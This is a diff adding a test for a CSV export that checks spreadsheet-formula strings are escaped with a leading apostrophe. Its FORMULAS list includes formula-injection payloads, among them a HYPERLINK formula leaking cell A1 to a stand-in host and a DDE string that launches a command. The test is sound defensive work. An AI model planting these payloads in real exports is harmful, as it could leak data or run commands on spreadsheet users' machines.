@@ -57,6 +57,47 @@ async def test_a_table_reads_back_with_its_odd_texts(store: DuckDBStore, tmp_pat
     assert rows[1]["path"] == "/a,b"
 
 
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    '=HYPERLINK("https://e.example/?"&A1;"x")',
+    "=cmd|' /C calc'!A0",
+]
+HARMLESS = ["-5", "+49", "-1.25", "a=1", "/path", "a;=1+1", 'say "=1"', "", "ünïcode"]
+
+
+async def test_no_text_of_a_table_is_a_formula_to_a_spreadsheet(
+    store: DuckDBStore, tmp_path: Path
+) -> None:
+    texts = [*FORMULAS, *HARMLESS]
+    hits = [
+        hit(NOON + 10 + n, title=text, utm_campaign=text, name=text or "n", revenue="-1.5")
+        for n, text in enumerate(texts)
+    ]
+    log = Log()
+    log.offset = 6
+    await store.write(log.batch(hits))
+    path = tmp_path / "out.csv"
+    await store.export(SITE, NOON + 10, NOON + 1000, ExportFormat.CSV, path)
+    with path.open(newline="", encoding="utf-8") as file:
+        rows = list(csv.DictReader(file))
+    for row, text in zip(rows, texts, strict=True):
+        kept = "'" + text if text in FORMULAS else text
+        assert (row["title"], row["utm_campaign"], row["name"]) == (kept, kept, kept or "n")
+        assert (row["revenue"], row["engaged_ms"]) == ("-1.500", "0")
+    # Where the separator is another one, a spreadsheet still begins no cell within a text.
+    assert '"a;=1+1"' in path.read_text("utf-8")
+    await store.export(SITE, NOON + 10, NOON + 1000, ExportFormat.NDJSON, path)
+    lines = path.read_text("utf-8").splitlines()
+    assert [json.loads(line)["title"] for line in lines] == texts
+
+
 async def test_a_parquet_file_has_the_columns(store: DuckDBStore, tmp_path: Path) -> None:
     path = tmp_path / "out.parquet"
     assert await store.export(SITE, 0, NOON + 99, ExportFormat.PARQUET, path) == 5
